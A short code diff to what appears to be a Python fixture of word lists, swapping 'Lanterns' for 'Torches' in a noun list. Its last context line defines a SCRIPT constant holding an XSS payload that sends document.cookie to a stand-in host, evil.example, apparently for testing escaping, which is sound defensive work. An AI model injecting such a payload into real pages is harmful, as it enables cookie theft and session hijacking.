@@ -17,7 +17,7 @@ ADJECTIVES = """
 """.split()  # noqa: SIM905 - fifty lines otherwise
 NOUNS = """
     Anvils Barrels Beehives Boats Butchery Candles Carts Caves Chests Crops Foxes Gardens
-    Kilns Lanterns Looms Maps Orchards Pottery Quarries Rafts Ruins Saddles Salt Seasons
+    Kilns Torches Looms Maps Orchards Pottery Quarries Rafts Ruins Saddles Salt Seasons
     Sheep Shelves Smelters Stoves Trails Wells Windmills Wolves
 """.split()  # noqa: SIM905 - fifty lines otherwise
 SCRIPT = "<script>fetch('https://evil.example/'+document.cookie)</script>"
